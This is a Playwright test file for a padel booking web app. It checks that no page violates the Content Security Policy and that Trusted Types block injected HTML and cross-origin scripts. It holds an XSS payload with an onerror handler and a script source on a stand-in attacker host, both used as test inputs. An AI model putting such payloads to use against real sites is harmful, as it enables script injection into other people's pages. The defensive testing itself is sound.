import type { Page } from '@playwright/test';
import { signInAs } from '../support/sign-in.ts';
import { expect, test } from '../support/test.ts';

const PAGES = [
  '/',
  '/dashboard',
  '/booking',
  '/booking/list',
  '/match',
  '/match/create',
  '/tournament',
  '/americano',
  '/notifications',
  '/profile',
  '/politica-privacidade',
  '/termos-de-uso',
];

/** Everything that the page's policy refuses, from the first script on. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      const report = (globalThis as unknown as { reportViolation: (text: string) => void }).reportViolation;
      report(`${location.pathname}: ${violatedDirective} ${blockedURI} ${sample}`);
    });
  });
  return violations;
}

test('no page violates the Content Security Policy or trusted types', async ({ page }) => {
  const violations = await watchViolations(page);
  await signInAs(page);
  for (const path of PAGES) {
    await page.goto(path);
    await expect(page.locator('h1').first()).toBeVisible();
  }
  expect(violations).toEqual([]);
});

test('text becomes neither HTML nor the script of another origin', async ({ page, allowConsole }) => {
  allowConsole(/Trusted|trusted|Content Security Policy/);
  await page.goto('/login');
  await expect(page.getByRole('button', { name: 'Entrar' })).toBeVisible();
  const outcome = await page.evaluate(() => {
    const attempt = (work: () => void) => {
      try {
        work();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    return {
      html: attempt(() => {
        document.createElement('div').innerHTML = '<img src="/x" onerror="alert(1)">';
      }),
      script: attempt(() => {
        document.createElement('script').src = 'https://attacker.example/x.js';
      }),
      own: attempt(() => {
        document.createElement('script').src = '/sw.js';
      }),
    };
  });
  expect(outcome).toEqual({ html: 'TypeError', script: 'TypeError', own: 'done' });
});
